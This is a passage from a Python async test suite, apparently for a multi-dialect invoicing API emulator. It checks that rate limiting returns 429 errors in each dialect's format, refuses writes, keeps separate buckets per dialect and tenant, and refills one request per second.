    elif dialect == "invoiless":
        assert_invoiless(answer, 429, "rate_limited", "Rate limit exceeded")
    elif dialect not in DOCUMENTED:
        assert_own_shape(dialect, answer, 429, "rate_limited", "Rate limit exceeded")
    else:
        assert answer.json() == {
            "name": "TooManyRequests",
            "message": "Rate limit exceeded",
            "code": 429,
            "className": "too-many-requests",
            "data": {"message": "Rate limit exceeded"},
            "errors": {},
        }
        assert answer.status == 429
    answer_status = answer.status
    # A write is refused too, and records nothing.
    path, body, content = create_request(dialect, invoice)
    refused = await send(client, "POST", path, headers={**headers, **content}, body=body)
    assert refused.status == answer_status
    await nothing_recorded(client, invoice)

    # Other dialects' credentials and other tenants have their own buckets.
    other = "invoiless" if dialect != "invoiless" else "harvest"
    answer = await send(client, "GET", list_path(other, invoice), headers=credentials(other))
    assert answer.status == 200
    globex_invoice = (await new_invoice(client, tenant="globex"))["id"]
    globex_path = list_path(dialect, globex_invoice, tenant="globex")
    for _ in range(5):
        answer = await send(client, "GET", globex_path, headers=credentials(dialect, "globex"))
        assert answer.status == 200

    now[0] += 1.0  # one second refills one request, and only one
    again = [
        (await send(client, "GET", list_path(dialect, invoice), headers=headers)).status
        for _ in range(2)
    ]
    assert again == [200, answer_status]
